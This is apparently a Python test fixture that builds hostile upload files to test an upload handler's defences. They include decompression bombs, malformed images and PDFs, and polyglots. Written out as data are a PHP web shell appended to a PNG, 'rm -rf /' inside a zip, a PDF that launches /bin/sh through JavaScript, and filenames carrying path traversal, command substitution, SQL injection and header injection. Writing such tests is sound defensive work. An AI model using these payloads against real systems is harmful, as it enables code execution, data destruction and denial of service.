"""Files that somebody might hand in to do harm, or because a telephone made them so. Made anew each time: none is kept.

`FILES` maps a name for the table to how the file is made.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pillow_heif
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file: its bytes, and the name that it is handed in under."""

    name: str
    content: bytes
    filename: str = "form.jpg"


FILES: dict[str, Callable[[], HostileFile]] = {}


def files() -> Iterator[HostileFile]:
    """All of them, made one after another."""
    for make in FILES.values():
        yield make()


def _add(name: str, make: Callable[[], bytes], filename: str = "form.jpg") -> None:
    if name in FILES:
        raise ValueError(name)
    FILES[name] = lambda: HostileFile(name, make(), filename)


def _picture(width: int = 200, height: int = 280, mode: str = "RGB") -> Image.Image:
    picture = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(picture).rectangle((width // 10, height // 10, width // 2, height // 2), fill=(40, 40, 40))
    return picture.convert(mode)


def _encoded(kind: str, picture: Image.Image | None = None, **more: object) -> bytes:
    made = io.BytesIO()
    (picture or _picture()).save(made, kind, **more)
    return made.getvalue()


def _heic() -> bytes:
    made = io.BytesIO()
    pillow_heif.from_pillow(_picture()).save(made, quality=60)
    return made.getvalue()


# PNG


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, interlace: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + _chunk(b"IEND", b"")


def _zeros(size: int) -> bytes:
    """So many zero bytes, deflated."""
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


_add("png-claims-900-megapixels", lambda: _png(30_000, 30_000, _chunk(b"IDAT", _zeros(1 << 20))))
_add("png-bomb-99-megapixels", lambda: _png(9_900, 10_000, _chunk(b"IDAT", _zeros(99 << 20)), depth=8, colour=0))
_add("png-data-beyond-its-size", lambda: _png(100, 100, _chunk(b"IDAT", _zeros(64 << 20))))
_add("png-text-bomb", lambda: _png(8, 8, _chunk(b"zTXt", b"a\0\0" + _zeros(256 << 20)), _chunk(b"IDAT", _zeros(0))))
_add("png-text-chunks-by-the-thousand", lambda: _png(8, 8, *[_chunk(b"tEXt", b"k\0v")] * 20_000))
_add("png-profile-bomb", lambda: _png(8, 8, _chunk(b"iCCP", b"p\0\0" + _zeros(256 << 20)), _chunk(b"IDAT", b"")))
_add("png-no-data", lambda: _png(64, 64))
_add("png-width-zero", lambda: _png(0, 64, _chunk(b"IDAT", _zeros(0))))
_add("png-broken-checksum", lambda: _encoded("PNG")[:-20] + b"\0" * 20)
_add("png-cut-off", lambda: _encoded("PNG")[: len(_encoded("PNG")) // 2])
_add("png-one-row-of-60000", lambda: _encoded("PNG", _picture(60_000, 1)))
_add("png-16-bit", lambda: _encoded("PNG", _picture(mode="L").convert("I").convert("I;16")))
_add("png-transparent", lambda: _encoded("PNG", _picture(mode="RGBA")))
_add(
    "png-animated",
    lambda: _encoded("PNG", save_all=True, append_images=[_picture(mode="RGB").rotate(9 * k) for k in range(30)]),
)
_add("png-with-script-behind", lambda: _encoded("PNG") + b"<?php system($_GET['c']); ?>", "photo.png.php")

# JPEG


def _exif(orientation: int, **more: object) -> bytes:
    lies = Image.Exif()
    lies[274] = orientation
    for tag, value in more.items():
        lies[int(tag[1:])] = value
    return _encoded("JPEG", exif=lies.tobytes())


def _jpeg_claiming(width: int, height: int) -> bytes:
    content = _encoded("JPEG")
    place = content.index(b"\xff\xc0")
    return content[: place + 5] + struct.pack(">HH", height, width) + content[place + 9 :]


def _scan_bomb() -> bytes:
    """A progressive picture whose last scan is repeated, each to be decoded over the whole picture."""
    content = _encoded("JPEG", _picture(2000, 2000), progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * 3000 + b"\xff\xd9"


_add("jpeg-claims-4-gigapixels", lambda: _jpeg_claiming(65_500, 65_500))
_add("jpeg-claims-95-megapixels", lambda: _jpeg_claiming(9_500, 10_000))
_add("jpeg-scan-bomb", _scan_bomb)
_add("jpeg-cut-off", lambda: _encoded("JPEG")[:900])
_add("jpeg-header-alone", lambda: b"\xff\xd8\xff\xe0")
_add("jpeg-noise-behind-its-header", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40)
_add("jpeg-endless-markers", lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * 200_000)
_add("jpeg-exif-turned-99", lambda: _exif(99))
_add("jpeg-exif-turned-by-a-word", lambda: _exif(6, t271="x" * 50_000, t272="\u202eexe.gpj"))
_add("jpeg-exif-offsets-lie", lambda: _exif(6).replace(b"Exif\0\0MM\0*\0\0\0\x08", b"Exif\0\0MM\0*\x7f\xff\xff\xff"))
_add("jpeg-exif-of-another-size", lambda: _exif(1, t256=99_999, t257=99_999, t40962=1, t40963=1))
_add("jpeg-and-zip", lambda: _encoded("JPEG") + _zip({"evil.sh": b"rm -rf /"}))
_add("jpeg-and-pdf", lambda: _encoded("JPEG") + _pdf(1))
_add("jpeg-cmyk", lambda: _encoded("JPEG", _picture(mode="CMYK")))
_add("jpeg-comment-of-scripts", lambda: _encoded("JPEG", comment=b"<script>alert(1)</script>" * 1000))
_add("jpeg-one-pixel", lambda: _encoded("JPEG", _picture(1, 1)))

# TIFF


def _tiff(*entries: tuple[int, int, int, int], following: int = 0, data: bytes = b"") -> bytes:
    """A little-endian TIFF of one directory at 8; `following` is where it says that the next one is."""
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + body + struct.pack("<I", following) + data


def _strip(width: int, height: int, data: bytes, packing: int = 1, following: int = 0) -> bytes:
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, packing),
        (262, 3, 1, 1),
        (273, 4, 1, 8 + 2 + 12 * 8 + 4),
        (278, 4, 1, height),
        (279, 4, 1, len(data)),
    ]
    return _tiff(*entries, following=following, data=data)


_add("tiff-claims-3-gigapixels", lambda: _strip(60_000, 60_000, _zeros(1 << 20), packing=8))
_add("tiff-deflate-bomb", lambda: _strip(9_900, 10_000, _zeros(300 << 20), packing=8))
_add("tiff-directory-that-follows-itself", lambda: _strip(16, 16, bytes(256), following=8))
_add("tiff-strip-outside-the-file", lambda: _tiff((256, 4, 1, 16), (257, 4, 1, 16), (273, 4, 1, 1 << 30)))
_add("tiff-of-300-pages", lambda: _encoded("TIFF", _picture(8, 8), save_all=True, append_images=[_picture(8, 8)] * 299))
_add("tiff-second-page-is-huge", lambda: _two_page_tiff())  # noqa: PLW0108 - it is made below
_add("tiff-floats", lambda: _encoded("TIFF", _picture(mode="L").convert("F")))
_add("tiff-cut-off", lambda: _encoded("TIFF")[:500])
_add("tiff-big", lambda: b"II+\0\x08\0\0\0" + bytes(64))


def _two_page_tiff() -> bytes:
    first = _strip(16, 16, bytes(256))
    second = _strip(50_000, 50_000, bytes(16))
    start = len(first)
    following = first.index(struct.pack("<I", 0), 8 + 2 + 12 * 8)
    return first[:following] + struct.pack("<I", start) + first[following + 4 :] + second[8:]


# WebP, HEIC, GIF and others

_add(
    "webp-animated",
    lambda: _encoded("WEBP", save_all=True, append_images=[_picture().rotate(k) for k in range(60)], duration=20),
)
_add("webp-claims-its-most", lambda: b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff" + bytes(24))
_add("webp-cut-off", lambda: _encoded("WEBP")[:60])
_add("webp-named-gif", lambda: _encoded("WEBP"), "form.gif")
_add("gif-animated", lambda: _encoded("GIF", save_all=True, append_images=[_picture()] * 50), "form.gif")
_add("heic-cut-off", lambda: _heic()[:700], "form.heic")
_add("heic-name-alone", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "form.heic")
_add("heic-boxes-lie", lambda: _heic().replace(b"ispe\0\0\0\0", b"ispe\0\0\0\0\x7f\xff\xff\xff", 1), "form.heic")
_add("heic-box-of-no-length", lambda: _heic()[:40] + bytes(4096), "form.heic")
_add("heic-named-jpg", _heic)
_add("bmp", lambda: _encoded("BMP"), "form.bmp")
_add("jpeg-2000", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200), "form.jp2")
_add("psd", lambda: b"8BPS\0\x01" + bytes(200), "form.psd")
_add("svg-with-entities", lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>', "form.svg")
_add("xml-billion-laughs", lambda: b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', "form.xml")
_add("html-script", lambda: b"<html><script>fetch('//evil')</script></html>", "form.html")
_add("postscript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file", "form.eps")
_add("font", lambda: b"\0\x01\0\0\0\x0c\0\x80\0\x03\0@" + bytes(400), "form.ttf")
_add("program", lambda: b"\x7fELF\x02\x01\x01" + bytes(400), "form.jpg")
_add("nothing", lambda: b"")
_add("one-byte", lambda: b"\xff")
_add("zeros", lambda: bytes(4096))


def _zip(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


_add("docx-bomb", lambda: _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(64 << 20)}), "form.docx")
_add("zip-of-zips", lambda: _zip({"a.zip": _zip({"b.zip": _zip({"c": bytes(8 << 20)})})}), "form.pdf")

# PDF


def _pdf(pages: int, size: float = 595, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(size, size)
    if password is not None:
        writer.encrypt(password, algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def _raw_pdf(*objects: bytes, root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a table of where they are."""
    content = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    content += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (len(objects) + 1, root, tail)
    return content + b"startxref\n%d\n%%%%EOF\n" % table


def _stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), head) + data + b"\nendstream"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(head: bytes = b"", box: bytes = b"0 0 595 842") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] %s >>" % (box, head)


def _one_page(content: bytes, head: bytes = b"", resources: bytes = b"", *more: bytes) -> bytes:
    page = _page(b"/Contents 4 0 R /Resources << %s >>" % resources)
    return _raw_pdf(_CATALOG, _PAGES, page, _stream(content, head), *more)


def _stacked(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def _huge_picture() -> bytes:
    picture = _stream(
        _zeros(200 << 20),
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
        b"/Filter /FlateDecode",
    )
    return _one_page(b"q 595 0 0 842 0 0 cm /I Do Q", b"", b"/XObject << /I 5 0 R >>", picture)


def _active() -> bytes:
    """Scripts at opening, a program to start, a file inside, a form to send, and a link to a local file."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("evil.exe", b"MZ" + bytes(1000))
    writer.add_annotation(0, Link(rect=(0, 0, 595, 842), url="file:///etc/passwd"))
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("/bin/sh")})
    script = "app.launchURL('http://127.0.0.1:1/', true); this.exportDataObject({cName: 'evil.exe', nLaunch: 2});"
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
            NameObject("/Next"): launch,
        }
    )
    writer.root_object[NameObject("/OpenAction")] = action
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


_add("pdf-active", _active, "form.pdf")
_add("pdf-encrypted", lambda: _pdf(1, password="locked"), "form.pdf")
_add("pdf-of-10000-pages", lambda: _pdf(10_000), "form.pdf")
_add("pdf-of-no-pages", lambda: _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"), "form.pdf")
_add("pdf-claims-a-billion-pages", lambda: _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids [] /Count 1000000000 >>"))
_add("pdf-tree-that-holds-itself", lambda: _raw_pdf(_CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"))
_add(
    "pdf-stacked-filters",
    lambda: _one_page(_stacked(b"0 0 m 9 9 l S\n" * 4_000_000, 5), b"/Filter [%s]" % (b"/FlateDecode " * 5), b""),
    "form.pdf",
)
_add("pdf-deflate-bomb", lambda: _one_page(_zeros(256 << 20), b"/Filter /FlateDecode"), "form.pdf")
_add("pdf-filters-by-the-thousand", lambda: _one_page(b"41>", b"/Filter [%s]" % (b"/ASCIIHexDecode " * 5000)))
_add("pdf-huge-picture", _huge_picture, "form.pdf")
_add("pdf-page-of-a-kilometre", lambda: _raw_pdf(_CATALOG, _PAGES, _page(box=b"0 0 2834645 2834645")), "form.pdf")
_add("pdf-page-without-area", lambda: _raw_pdf(_CATALOG, _PAGES, _page(box=b"0 0 0 0")), "form.pdf")
_add("pdf-page-inside-out", lambda: _raw_pdf(_CATALOG, _PAGES, _page(box=b"595 842 -1e30 nan")), "form.pdf")
_add(
    "pdf-drawing-that-draws-itself",
    lambda: _one_page(
        b"/F Do",
        b"",
        b"/XObject << /F 5 0 R >>",
        _stream(
            b"/F Do /F Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>",
        ),
    ),
    "form.pdf",
)
_add(
    "pdf-object-stream-in-itself",
    lambda: _raw_pdf(
        _CATALOG, _PAGES, _stream(b"3 0 2 3 << >> ", b"/Type /ObjStm /N 2 /First 8 /Extends 3 0 R"), tail=b"/Prev 9"
    ),
)
_add("pdf-table-that-follows-itself", lambda: _raw_pdf(_CATALOG, _PAGES, _page(), tail=b"/Prev 200 /XRefStm 200"))
_add("pdf-deep-brackets", lambda: _raw_pdf(_CATALOG, _PAGES, _page(b"/A " + b"[" * 100_000)), "form.pdf")
_add("pdf-a-million-lines", lambda: _one_page(b"0 0 m 595 842 l S\n" * 1_000_000), "form.pdf")
_add("pdf-nested-states", lambda: _one_page(b"q " * 2_000_000), "form.pdf")
_add("pdf-cut-off", lambda: _pdf(3)[:300], "form.pdf")
_add("pdf-header-alone", lambda: b"%PDF-1.7\n%%EOF\n", "form.pdf")
_add("pdf-behind-a-kilobyte", lambda: b"\0" * 1000 + _pdf(1), "form.pdf")
_add("pdf-named-jpg", lambda: _pdf(1))

# Names. The bytes are harmless.

NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/dev/null",
    "form.jpg\0.exe",
    "\u202egpj.exe",
    "$(rm -rf ~).jpg",
    "'; DROP TABLE upload; --.jpg",
    "a\r\nContent-Type: text/html\r\n\r\n<script>.jpg",
    "CON.jpg",
    "." * 400,
    "长" * 5000 + ".jpg",
    "\ud800.jpg",
    "",
)
for _number, _name in enumerate(NAMES):
    _add(
        f"name-{_number}",
        lambda shade=_number: _encoded("JPEG", Image.new("RGB", (40, 40), (9 * shade, 99, 99))),  # type: ignore[misc]
        _name,
    )
